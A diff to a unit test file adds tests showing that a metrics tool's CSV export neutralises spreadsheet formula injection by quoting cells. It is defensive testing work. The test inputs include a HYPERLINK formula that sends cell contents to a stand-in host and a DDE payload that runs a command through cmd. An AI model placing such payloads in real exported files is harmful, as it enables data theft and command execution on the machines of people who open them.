@@ -1,9 +1,9 @@
 import csv
 import io
 
-from plimsoll.record.interchange.csv_table import write_csv
-from plimsoll.record.interchange.metric_batches import periods_to_export
-from plimsoll.record.run_directory import RunDirectory
+from plimsoll.export.csv_table import write_csv
+from plimsoll.export.metric_batches import periods_to_export
+from plimsoll.record.run.run_directory import RunDirectory
 from tests.unit.record.interchange.exported_run import BEGIN_MS, Row, write_metrics
 
 
@@ -68,3 +68,26 @@ def test_whatever_is_in_a_name_stays_in_its_cell(run: RunDirectory) -> None:
     (row,) = [row for row in table(run, wide=True) if row["source"] == "s"]
     assert row['name.a"b,c'] == odd['a"b,c']
     assert row["value"] == "1.5"
+
+
+FORMULAS = ('=HYPERLINK("http://x/"&A1,"dut")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")
+
+
+def test_a_name_that_a_spreadsheet_would_compute_is_text(run: RunDirectory) -> None:
+    rows = [
+        Row("mpstat", "Busy-CPU", {"hostname": name, "num": "-1"}, 0, 1000, 1.0)
+        for name in FORMULAS
+    ]
+    write_metrics(run, "trial-0002@evil", rows, period="trial-0002")
+    table_of_names = table(run, ["trial-0002"], wide=True)
+    found = {row["name.hostname"] for row in table_of_names if row["type"] == "Busy-CPU"}
+    assert found == {f"'{name}" for name in FORMULAS}
+    # A number is no formula.
+    assert {row["name.num"] for row in table_of_names if row["type"] == "Busy-CPU"} == {"-1"}
+
+
+def test_a_period_that_looks_like_a_formula_is_text_also_without_wide(run: RunDirectory) -> None:
+    rows = [Row("=1+1", "-a", {}, 0, 1000, 1.0)]
+    write_metrics(run, "trial-0002@evil", rows, period="trial-0002")
+    (found,) = [row for row in table(run, ["trial-0002"]) if row["source"].endswith("=1+1")]
+    assert (found["source"], found["type"]) == ("'=1+1", "'-a")
